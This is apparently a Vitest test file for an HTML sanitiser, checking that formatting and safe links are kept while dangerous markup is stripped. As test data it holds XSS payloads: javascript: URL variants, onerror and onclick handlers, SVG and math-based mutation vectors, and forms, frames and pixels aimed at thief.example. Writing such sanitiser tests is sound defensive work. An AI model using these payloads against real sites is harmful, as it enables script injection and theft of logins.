import { describe, expect, it } from 'vitest'

import { safeHtml } from './safe-html'

function shown(html: string): string {
  const box = document.createElement('div')
  box.append(safeHtml(html))
  return box.innerHTML
}

describe('[AUTH-08] HTML of a back end', () => {
  it('keeps text, emphasis and lists', () => {
    const html = '<h2>New</h2><p>This <strong>month</strong><br>and <em>next</em></p><ul><li>plates</li></ul>'
    expect(shown(html)).toBe(html)
  })

  it.each([['https://studio.example/a?b=1'], ['http://studio.example/'], ['mailto:help@studio.example']])(
    'lets a link lead to %s, in a tab of its own that learns nothing',
    (href) => {
      expect(shown(`<a href="${href}" target="_top" rel="opener">go</a>`)).toBe(
        `<a href="${href}" target="_blank" rel="noopener noreferrer">go</a>`,
      )
    },
  )

  it.each([
    ['javascript:alert(1)'],
    [' javascript:alert(1)'],
    ['JaVaScRiPt:alert(1)'],
    ['java\nscript:alert(1)'],
    ['&#106;avascript:alert(1)'],
    ['data:text/html,<script>alert(1)</script>'],
    ['blob:https://studio.example/1'],
    ['file:///etc/passwd'],
    ['/app/account'],
    ['//thief.example/'],
    [''],
  ])('makes text of a link to %j', (href) => {
    expect(shown(`<p><a href="${href}">go</a></p>`)).toBe('<p>go</p>')
  })

  it.each([
    [
      'what hides in a link that leads nowhere',
      '<a href="javascript:1"><b onclick="alert(1)">a</b><img src=x onerror=alert(1)></a>',
      '<b>a</b>',
    ],
    ['a script', '<p>a</p><script>alert(1)</script>', '<p>a</p>'],
    ['an event handler', '<p onclick="alert(1)">a</p>', '<p>a</p>'],
    ['a picture that fails on purpose', '<img src=x onerror=alert(1)>a', 'a'],
    ['a picture that counts who looks', '<img src="https://thief.example/pixel.gif">', ''],
    ['a style', '<style>*{display:none}</style><p style="position:fixed" class="c" id="main">a</p>', '<p>a</p>'],
    ['a form', '<form action="https://thief.example"><input name="password"><button>go</button></form>', 'go'],
    ['a frame', '<iframe src="https://thief.example"></iframe><object data="x"></object><embed src="x">', ''],
    ['a drawing with a script', '<svg><script>alert(1)</script><a xlink:href="javascript:alert(1)"><text>a</text></a></svg>', ''],
    ['formulas that change what is read', '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>', ''],
    [
      'a page of its own',
      '<base href="https://thief.example/"><meta http-equiv="refresh" content="0;url=//thief.example"><link rel="stylesheet" href="x">',
      '',
    ],
    ['a template', '<template><img src=x onerror=alert(1)></template>', ''],
    ['a comment that ends early', '<p>a<!--><img src=x onerror=alert(1)>--></p>', '<p>a--&gt;</p>'],
    ['names that hide those of the page', '<p name="cookie" data-x="1" aria-label="x" tabindex="1">a</p>', '<p>a</p>'],
  ])('takes out %s', (_, html, rest) => {
    expect(shown(html)).toBe(rest)
  })
})
